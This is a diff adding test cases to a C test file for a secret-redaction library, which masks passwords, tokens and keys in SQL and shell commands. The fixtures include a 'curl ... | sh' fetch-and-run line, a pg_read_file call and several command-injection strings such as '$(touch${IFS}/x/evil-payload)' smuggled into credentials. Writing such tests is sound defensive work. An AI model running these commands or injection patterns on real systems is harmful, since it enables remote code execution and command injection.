@@ -15,8 +15,11 @@
 
 #include "common/escape.c"
 #include "common/redact_text.c"
+#include "common/redact_filter.c"
+#include "common/redact_shell.c"
 #include "common/redact_value.c"
 #include "common/redact.c"
+#include "common/redact_sql.c"
 
 /* The secret in all of the statements below. */
 #define SECRET "s3cr3t"
@@ -29,6 +32,25 @@ typedef struct Case
 
 /* SQL: the secret must be gone, the rest be as told. */
 static const Case hidden[] = {
+	{"SELECT create_aws_credentials('AKIAX', 's3cr3t', '')", NULL},
+	{"SELECT aws_commons.create_aws_credentials('AKIAX', 's3cr3t', ''), f('shown')", NULL},
+	{"SELECT http_header('Authorization', 'Basic s3cr3t'), 'shown'", NULL},
+	{"SELECT http_header('X-Api-Key', 's3cr3t')", NULL},
+	{"SELECT set_config('app.jwt', 's3cr3t', false)", NULL},
+	{"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (key 's3cr3t', host 'shown')", NULL},
+	{"SELECT 's3cr3t' pw, 'shown' b", NULL},
+	{"SELECT 's3cr3t' AS password", NULL},
+	{"COPY t TO PROGRAM 'curl -su u:s3cr3t http://h/'", NULL},
+	{"COPY t TO PROGRAM 'sshpass -p ''s3cr3t s3cr3t'' ssh shown'", NULL},
+	{"SELECT '-----BEGIN PRIVATE KEY-----s3cr3t-----END PRIVATE KEY-----'", NULL},
+	{"SELECT 'ghp_s3cr3ts3cr3ts3cr3ts3cr3ts3cr3t'", NULL},
+	{"ALTER ROLE x PASSWORD 's3cr3t'", NULL},
+	{"ALTER ROLE x/**/PASSWORD/**/'s3cr3t'", NULL},
+	{"DO $$ BEGIN EXECUTE 'ALTER ROLE x PASSWORD ''s3cr3t'''; END $$", NULL},
+	{"INSERT INTO users (name, password) VALUES ('a', 's3cr3t')", NULL},
+	{"SELECT dblink_connect('host=shown password=s3cr3t')", NULL},
+	{"SELECT 'PASS' || 'WORD ''s3cr3t'''", NULL},
+	{"SELECT http(('POST','shown', ARRAY[http_header('Cookie','s3cr3t')]))", NULL},
 	/* roles, in every spelling */
 	{"ALTER ROLE bob PASSWORD 's3cr3t'", "ALTER ROLE bob PASSWORD '***'"},
 	{"ALTER ROLE bob PASSWORD 's3cr3t' VALID UNTIL '2027-01-01'",
@@ -214,6 +236,11 @@ static const Case hidden[] = {
 
 /* SQL that must come through as it is. */
 static const char *const shown[] = {
+	"SELECT pg_read_file('/srv/shown/secret.txt')",
+	"COPY su_secret TO '/srv/shown'",
+	"SELECT inj('COPY su_secret TO ''/srv/shown''')",
+	"SELECT defp('/x/shown') AS password",
+	"UPDATE t SET key = 'shown' WHERE a = 'b'",
 	"SELECT 1",
 	"",
 	"COPY (SELECT 'a', E'b\\'c', $$d$$) TO PROGRAM 'curl http://203.0.113.9/x | sh'",
@@ -246,6 +273,82 @@ static const char *const shown[] = {
 
 /* Plain text: only the value goes. */
 static const Case plain[] = {
+	{"curl -su u:s3cr3t http://h/shown",
+	"curl -su u:*** http://h/shown"},
+	{"curl -sSfu u:s3cr3t http://h/",
+	"curl -sSfu u:*** http://h/"},
+	{"curl -u 'u:s3cr3t s3cr3t' http://h/shown",
+	"curl -u 'u:***' http://h/shown"},
+	{"sshpass -p 's3cr3t s3cr3t' ssh shown",
+	"sshpass -p '***' ssh shown"},
+	{"mysql -p's3cr3t s3cr3t' db",
+	"mysql -p'***' db"},
+	{"PGPASSWORD=$'s3cr3t s3cr3t' psql shown",
+	"PGPASSWORD=*** psql shown"},
+	{"PGPASSWORD=s3cr3t's3cr3t'\"s3cr3t\" psql shown",
+	"PGPASSWORD=*** psql shown"},
+	{"PGPASSWORD=s3cr3t\\ s3cr3t psql shown",
+	"PGPASSWORD=*** psql shown"},
+	{"AZURE_STORAGE_KEY=s3cr3t az shown",
+	"AZURE_STORAGE_KEY=*** az shown"},
+	{"curl 'https://h/x?sig=s3cr3t'",
+	"curl 'https://h/x?sig=***'"},
+	{"curl 'https://h/x?X-Amz-Signature=s3cr3t&shown=1'",
+	"curl 'https://h/x?X-Amz-Signature=***&shown=1'"},
+	{"curl -H 'Cookie: s3cr3t; b=s3cr3t' http://shown",
+	"curl -H 'Cookie: ***' http://shown"},
+	{"curl -H 'X-Auth: s3cr3t' http://shown",
+	"curl -H 'X-Auth: ***' http://shown"},
+	{"redis-cli -a s3cr3t get shown",
+	"redis-cli -a *** get shown"},
+	{"ldapsearch -w s3cr3t -b shown",
+	"ldapsearch -w *** -b shown"},
+	{"smbclient -U u%s3cr3t //h/shown",
+	"smbclient -U u%*** //h/shown"},
+	{"sqlcmd -P s3cr3t -S shown",
+	"sqlcmd -P *** -S shown"},
+	{"sqlplus u/s3cr3t@db",
+	"sqlplus u/***@db"},
+	{"docker login -p s3cr3t shown",
+	"docker login -p *** shown"},
+	{"7z x -ps3cr3t shown.7z",
+	"7z x -p*** shown.7z"},
+	{"echo ghp_s3cr3ts3cr3ts3cr3ts3cr3ts3cr3t > f",
+	"echo *** > f"},
+	{"echo xoxb-s3cr3ts3cr3ts3cr3t",
+	"echo ***"},
+	{"curl -d eyJs3cr3ts3cr3ts3cr3ts3cr3t.eyJx",
+	"curl -d ***"},
+	{"echo '-----BEGIN RSA PRIVATE KEY-----s3cr3t-----END RSA PRIVATE KEY-----' shown",
+	"echo '***-----END RSA PRIVATE KEY-----' shown"},
+	{"token=\"touch /x/evil-payload\"; eval \"$token\"",
+	"token=\"touch /x/evil-payload\"; eval \"$token\""},
+	{"token=/x/evil-payload; $token",
+	"token=/x/evil-payload; $token"},
+	{"token='touch /x/evil-payload' sh -c \"$(env | grep to)\"",
+	"token='touch /x/evil-payload' sh -c \"$(env | grep to)\""},
+	{"curl -u u:$(touch /x/evil-payload) h",
+	"curl -u u:$(touch /x/evil-payload) h"},
+	{"curl http://x:$(touch${IFS}/x/evil-payload)@h/",
+	"curl http://x:$(touch${IFS}/x/evil-payload)@h/"},
+	{"psql postgres://u:$(touch${IFS}/x/evil-payload)@h",
+	"psql postgres://u:$(touch${IFS}/x/evil-payload)@h"},
+	{"true Bearer x; touch /x/evil-payload",
+	"true Bearer ***; touch /x/evil-payload"},
+	{"true Authorization: x; touch /x/evil-payload",
+	"true Authorization: ***; touch /x/evil-payload"},
+	{"mysql x; touch -p/x/evil-payload",
+	"mysql x; touch -p/x/evil-payload"},
+	{"PGPASSWORD=s3cr3t psql -c 'select shown'",
+	"PGPASSWORD=*** psql -c 'select shown'"},
+	{"curl -H \"Authorization: Bearer s3cr3t\" http://shown",
+	"curl -H \"Authorization: ***\" http://shown"},
+	{"host=shown password='s3cr3t s3cr3t' user=x",
+	"host=shown password='***' user=x"},
+	{"postgres://u:s3cr3t@h/shown",
+	"postgres://u:***@h/shown"},
+	{"su_secret",
+	"su_secret"},
 	{"PGPASSWORD=s3cr3t psql -c 'evil'", "PGPASSWORD=*** psql -c 'evil'"},
 	{"PGPASSWORD='a s3cr3t' evil", "PGPASSWORD='***' evil"},
 	{"PGPASSWORD=s3cr3t;evil", "PGPASSWORD=***;evil"},
@@ -319,7 +422,7 @@ redact(const char *input, size_t len, size_t size, bool is_sql, bool backslash)
 	if (is_sql)
 		gk_redact_sql(&text, copy, len, backslash);
 	else
-		gk_redact_plain(&text, copy, len);
+		(void) gk_redact_plain(&text, copy, len, true);
 	free(copy);
 	if (text.used >= size || out[text.used] != '\0')
 		abort();
